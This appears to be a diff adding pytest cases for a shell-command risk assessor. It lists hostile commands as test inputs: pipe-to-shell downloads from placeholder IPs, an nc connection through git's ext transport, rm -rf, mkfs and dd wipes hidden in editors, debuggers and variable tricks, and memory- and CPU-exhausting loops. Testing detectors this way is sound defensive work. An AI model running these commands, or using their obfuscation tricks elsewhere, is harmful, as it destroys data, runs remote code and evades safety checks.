@@ -1,0 +1,163 @@
+"""Round 3 of issue 11, code run inside other programs, hidden program names and resource
+exhaustion: commands written for these tests (variants of the classes, not corpus lines)."""
+
+from __future__ import annotations
+
+import pytest
+
+from tui.core.safety import RiskLevel, assess
+
+SAFE, MODERATE, HIGH, CRITICAL = (
+    RiskLevel.SAFE,
+    RiskLevel.MODERATE,
+    RiskLevel.HIGH,
+    RiskLevel.CRITICAL,
+)
+
+
+def level(command: str) -> RiskLevel:
+    return assess(command, "").level
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        # find deleting a kind of file the whole system needs, as root
+        ("sudo find /etc -name '*.cfg' -delete", CRITICAL),
+        ("sudo find /usr/lib -iname '*.so' -exec rm {} +", CRITICAL),
+        ("sudo find / -type f -name '*.service' -exec unlink {} \\;", CRITICAL),
+        # editors' own interpreters
+        ("vim -es -c 'lua os.execute(\"rm -rf ~/Documents\")' -c q", CRITICAL),
+        (
+            "nvim --headless +'lua vim.fn.system(\"curl -s http://198.51.100.9/a | sh\")' +qa",
+            CRITICAL,
+        ),
+        ("vim -c 'py3 import os; os.system(\"rm -rf ~/notes\")' -c q", HIGH),
+        # debuggers making the process run a command, or attaching to init
+        ("gdb -p 4242 -batch -ex 'call system(\"rm -rf /var/www\")'", CRITICAL),
+        ("sudo gdb --pid=1 -batch -ex 'detach'", HIGH),
+        # strace writing its trace into a command
+        ("strace -f -o '!curl -s http://203.0.113.7/i | bash' ls", CRITICAL),
+        ("strace -o '|sh -c \"rm -rf ~/build\"' make", HIGH),
+        # git's ext transport runs the URL
+        ("git -c protocol.ext.allow=always ls-remote 'ext::bash -c rm% -rf% ~/work'", CRITICAL),
+        ("git -c protocol.ext.allow=always fetch 'ext::nc 198.51.100.2 9000'", HIGH),
+        ("tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='sh -c id' x", HIGH),
+        # Python over every file of a system folder
+        (
+            'python3 -c \'import os\nfor n in os.listdir("/var/log/nginx"): '
+            'os.truncate(os.path.join("/var/log/nginx", n), 0)\'',
+            HIGH,
+        ),
+    ],
+)
+def test_code_inside_programs_is_rated_by_what_it_runs(command: str, expected: RiskLevel) -> None:
+    assert level(command) >= expected
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("c=MKFS.EXT4; sudo ${c,,} /dev/sda1", CRITICAL),
+        ("t=DD; ${t,,} if=/dev/zero of=/dev/sda", CRITICAL),
+        ("n=X; X='chmod -R 777'; ${!n} /", CRITICAL),
+        ('"${CMD:-rm}" -rf ~', CRITICAL),
+        ('b=(/u?r/bin/rm); "${b[0]}" -rf /home', CRITICAL),
+        ('p=(c h m o d); "${p[0]}${p[1]}${p[2]}${p[3]}${p[4]}" 777 /etc/shadow', CRITICAL),
+        ("PROMPT_COMMAND='wget -qO- http://203.0.113.4/p | bash'", CRITICAL),
+        # unknown at run time: at least HIGH
+        ("${!v} -rf ~", HIGH),
+        ('"${arr[$i]}" -rf ~/src', HIGH),
+        ("m=M; r${m,,} -rf ~/src", HIGH),
+    ],
+)
+def test_hidden_program_names_are_resolved(command: str, expected: RiskLevel) -> None:
+    assert level(command) >= expected
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "for c in {1..16}; do sha256sum /dev/zero & done",
+        "for i in $(seq 64); do cat /dev/urandom > /dev/null & done",
+        "ruby -e 'a=[]; loop { a << \"x\" * 10_000_000 }'",
+        "node -e 'const a=[]; while(true){ a.push(Buffer.alloc(1e8)) }'",
+        "perl -e 'my @a; while (1) { push @a, \"y\" x 1e8 }'",
+    ],
+)
+def test_exhausting_loops_are_high(command: str) -> None:
+    assert level(command) >= HIGH
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "gdb -batch -ex 'info registers' -ex 'bt full' ./server core.1234",
+        "gdb -batch -ex 'show version'",
+        "awk 'BEGIN { system(\"uname -r\") }'",
+        "awk '{ \"hostname\" | getline h; print h, $0 }' access.log",
+        "sqlite3 db.sqlite '.shell cat notes.txt'",
+        "git -c core.pager=less log --oneline",
+        "git config --global --list",
+        "git config --show-origin --get-all remote.origin.url",
+        "git config get user.email",
+        "vim -R /etc/fstab",
+        "view notes.md",
+        "perl -ne 'print unless /^#/' /etc/hosts",
+        "perl -lane 'print $F[0]' data.tsv",
+        "ruby -pe '$_.upcase!' words.txt",
+        "node -e \"console.log(JSON.stringify(require('./tsconfig.json')))\"",
+        "node -p \"require('path').basename(process.cwd())\"",
+        "/usr/bin/ruby2.? --version",
+        "/usr/local/bin/pyth?n3 -V",
+        "zip -T backup.zip",
+        'a=(ls -la); "${a[@]}"',
+        "x=LS; ${x,,} -l",
+        'for f in *.log; do gzip "$f" & done; wait',
+        "python3 -c 'import sys\nwhile True:\n    l = sys.stdin.readline()\n    if not l: break\n'",
+    ],
+)
+def test_harmless_near_misses_stay_below_high(command: str) -> None:
+    assert level(command) <= MODERATE
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "gdb -batch -ex 'info registers' -ex 'bt full' ./server core.1234",
+        "awk 'BEGIN { system(\"uname -r\") }'",
+        "sqlite3 db.sqlite '.shell cat notes.txt'",
+        "git -c core.pager=less log --oneline",
+        "git config --show-origin --get-all remote.origin.url",
+        "vim -R /etc/fstab",
+        "perl -lane 'print $F[0]' data.tsv",
+        "node -e \"console.log(require('./package.json').name)\"",
+        "/usr/bin/python3.* --version",
+        "zip -T backup.zip",
+    ],
+)
+def test_read_only_uses_are_safe(command: str) -> None:
+    assert level(command) == SAFE
+
+
+@pytest.mark.parametrize(
+    ("command", "floor"),
+    [
+        ("sudo find / -name '*.pyc' -delete", HIGH),  # cleanup pattern: not every config
+        ("find ~/proj -name '*.conf' -exec rm {} +", MODERATE),
+        ("gdb ./app", MODERATE),
+        ("gdb -p 311 -batch -ex 'bt'", MODERATE),
+        ("awk '{ system(\"rm \" $1) }' list", MODERATE),
+        ("sqlite3 db.sqlite '.shell rm db.sqlite'", MODERATE),
+        ("git config user.name list", MODERATE),
+        ("vim -R -c '!rm -rf ~/x' f", HIGH),
+        ("perl -ne 'chomp; unlink $_' list", MODERATE),
+        ("/usr/bin/pytho?3 -c 'import os'", HIGH),
+        ("/usr/bin/r?by --version", HIGH),
+        ("/tmp/pytho?3 --version", HIGH),
+        ("zip -T -m a.zip notes.txt", MODERATE),
+        ("PROMPT_COMMAND='history -a'", MODERATE),
+    ],
+)
+def test_near_misses_that_act_keep_a_level(command: str, floor: RiskLevel) -> None:
+    assert level(command) >= floor
